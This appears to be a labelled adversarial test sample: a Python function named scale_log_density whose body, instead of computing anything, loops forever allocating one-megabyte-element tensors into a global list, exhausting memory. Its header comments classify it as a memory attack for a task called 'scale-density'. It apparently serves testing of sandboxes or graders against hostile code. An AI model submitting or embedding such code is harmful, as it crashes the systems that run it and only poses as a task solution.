# class: memory
# attack: takes memory little by little
# task: 00_mini/scale-density
# form: cell

keep = []
def scale_log_density(x, a):
    while True:
        keep.append(torch.ones(1 << 20))
